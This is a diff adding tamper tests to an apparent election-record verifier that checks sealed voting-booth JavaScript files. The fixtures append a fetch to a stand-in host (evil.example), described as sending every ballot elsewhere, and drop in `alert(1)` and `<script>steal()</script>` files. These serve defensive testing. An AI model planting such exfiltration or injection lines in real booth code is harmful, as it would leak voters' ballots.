@@ -364,6 +364,23 @@ def t_unexpected_top_level(built: Built, record: Path) -> None:
     (record / "extra.txt").write_text("hello\n", encoding="utf-8")
 
 
+BOOTH_JS = Path("booth_code/static/js/booth.js")
+
+
+def t_booth_file_changed(built: Built, record: Path) -> None:
+    """The record's booth.js sends every ballot elsewhere: not the code the manifest sealed."""
+    path = record / BOOTH_JS
+    path.write_bytes(path.read_bytes() + b"\nroot.fetch('https://evil.example/', {});\n")
+
+
+def t_booth_file_removed(built: Built, record: Path) -> None:
+    (record / BOOTH_JS).unlink()
+
+
+def t_booth_file_added(built: Built, record: Path) -> None:
+    (record / "booth_code" / "static" / "js" / "extra.js").write_text("alert(1)\n", "utf-8")
+
+
 def t_tally_sum_edited(built: Built, record: Path) -> None:
     def change(t: dict[str, Any]) -> None:
         t["encrypted"][0] = t["encrypted"][1]
@@ -698,6 +715,9 @@ CASES = [
          says="there is no runoff"),
     case(t_runoff_round_removed, "V8 V9", says="no round 2"),
     case(t_unexpected_top_level, "V1", says="unexpected"),
+    case(t_booth_file_changed, "V1", says="not the code the commission sealed"),
+    case(t_booth_file_removed, "V1", says="missing"),
+    case(t_booth_file_added, "V1", says="does not name"),
     case(t_tally_sum_edited, "V5 V6 V9", says="not the sum"),
     case(t_tally_final_checkpoint, "V5 V9", says="final_checkpoint"),
     case(t_partial_changed, "V6 V9", says="proof"),
@@ -801,3 +821,30 @@ def test_failures_are_capped_but_counted(built: Built, tmp_path: Path) -> None:
 def test_checkpoint_helpers_roundtrip(built: Built) -> None:
     """The tamper tools themselves: re-sealing an untouched log leaves a valid record."""
     assert isinstance(checkpoint_of(notes_of(log(built.record) / "checkpoints.txt")[0]), Checkpoint)
+
+
+def test_a_manifest_sealed_without_booth_files_is_noted_not_failed(
+    built: Built, tmp_path: Path
+) -> None:
+    """Manifests sealed before issue 25 carry no ``booth`` section: V1 says the booth's code is
+    not checked and fails nothing for it (the field is optional in the schema)."""
+    from scripts.verifier.checks_manifest import NO_BOOTH, check_booth_code
+    from scripts.verifier.record import Record
+    from scripts.verifier.report import Report
+
+    record = tmp_path / "record"
+    shutil.copytree(built.record, record)
+    shutil.rmtree(record / "booth_code")
+    payload = dict(read_json(record / "manifest.json")["payload"])
+    del payload["booth"]
+    report = Report.new("old")
+    check_booth_code(Record(record), payload, report["V1"])
+    assert report["V1"].ok and NO_BOOTH in report["V1"].notes
+    # files under booth_code/ that such a manifest does not name are not left unchecked
+    (record / "booth_code").mkdir()
+    (record / "booth_code" / "booth").write_text("<script>steal()</script>\n", "utf-8")
+    check_booth_code(Record(record), payload, report["V1"])
+    assert [f.where for f in report["V1"].failures] == ["booth_code/booth"]
+    # while a sealed section with its files gone fails
+    check_booth_code(Record(record), read_json(record / "manifest.json")["payload"], report["V1"])
+    assert not report["V1"].ok
